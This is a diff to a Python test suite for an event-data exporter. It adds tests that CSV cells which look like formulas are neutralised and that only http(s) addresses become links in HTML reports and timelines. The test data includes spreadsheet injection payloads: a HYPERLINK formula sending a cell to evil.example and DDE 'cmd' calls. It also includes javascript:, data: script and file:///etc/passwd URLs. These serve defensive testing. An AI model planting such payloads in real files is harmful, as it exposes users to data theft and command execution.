@@ -148,7 +148,9 @@ def test_html_report_lists_events_with_links(frame: pd.DataFrame, tmp_path: Path
     parser.feed(path.read_text(encoding="utf-8"))
     assert parser.articles == 3
     assert "https://example.org/a" in parser.links
-    assert "file:///corpus/a0.txt" in parser.links
+    # Only http(s) becomes a link: an article without an address is named, not linked to
+    # its file (issue 12, point 6).
+    assert parser.links == ["https://example.org/a"] * parser.links.count("https://example.org/a")
     body = "".join(parser.text)
     assert "3 events from 2 articles" in body
     assert "2019-04-09 – 2019-04-11" in body
@@ -193,3 +195,99 @@ def test_failure_midway_keeps_previous_file(frame: pd.DataFrame, tmp_path: Path)
         write_events(bad, target)
     assert target.read_text(encoding="utf-8") == "old\n"
     assert [p.name for p in tmp_path.iterdir()] == ["e.jsonl"]
+
+
+# --- corpus content is data: no formulas, no links but http(s) (issue 12, points 6 and 7) ---
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1-2",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _csv_cells(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path: Path, streamed: bool) -> None:
+    events = [
+        _event(i, "2019-03-14", title=text, doc_source="-12.5", time_text="+3")
+        for i, text in enumerate([*FORMULAS, "Kim met Putin"])
+    ]
+    frame = events_to_frame(events)
+    path = tmp_path / "events.csv"
+    if streamed:
+        from nkviewer.export.stream import write_event_stream
+
+        write_event_stream([frame], path)
+    else:
+        write_events(frame, path)
+    rows = _csv_cells(path)
+    titles = sorted(r["title"] for r in rows)
+    assert titles == sorted(["'" + f for f in FORMULAS] + ["Kim met Putin"])
+    assert {r["doc_source"] for r in rows} == {"-12.5"}  # a negative number stays a number
+    assert {r["time_text"] for r in rows} == {"+3"}
+    assert all(r["actors"].startswith("[") for r in rows)
+
+
+HOSTILE_URLS = [
+    "javascript:alert(document.domain)",
+    " JavaScript:alert(1)",
+    "file:///etc/passwd",
+    "data:text/html,<script>alert(1)</script>",
+    "https:/no-host",
+    "java\nscript:alert(1)",
+]
+
+
+def test_only_http_addresses_become_links_in_reports_and_timelines(tmp_path: Path) -> None:
+    events = [
+        _event(i, "2019-03-14", doc_id=f"d{i}", doc_url=url)
+        for i, url in enumerate([*HOSTILE_URLS, "https://example.org/ok"])
+    ]
+    frame = events_to_frame(events)
+
+    class Links(HTMLParser):
+        def __init__(self) -> None:
+            super().__init__()
+            self.hrefs: list[str] = []
+
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            if tag == "a":
+                self.hrefs.append(dict(attrs).get("href") or "")
+
+    report = Links()
+    report.feed(write_events(frame, tmp_path / "r.html").read_text(encoding="utf-8"))
+    assert report.hrefs == ["https://example.org/ok"]
+    timeline = Links()
+    for ev in timelinejs_document(frame)["events"]:
+        timeline.feed(ev["text"]["text"])
+    assert timeline.hrefs == ["https://example.org/ok"]
+
+
+@pytest.mark.parametrize(
+    ("address", "link"),
+    [
+        ("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"),
+        ("  http://example.org  ", "http://example.org"),
+        ("HTTPS://EXAMPLE.ORG", "HTTPS://EXAMPLE.ORG"),
+        *[(u, None) for u in HOSTILE_URLS],
+        ("//example.org/x", None),
+        ("example.org", None),
+        ("", None),
+        (None, None),
+    ],
+)
+def test_http_url(address: str | None, link: str | None) -> None:
+    from nkviewer.ingest.links import http_url
+
+    assert http_url(address) == link
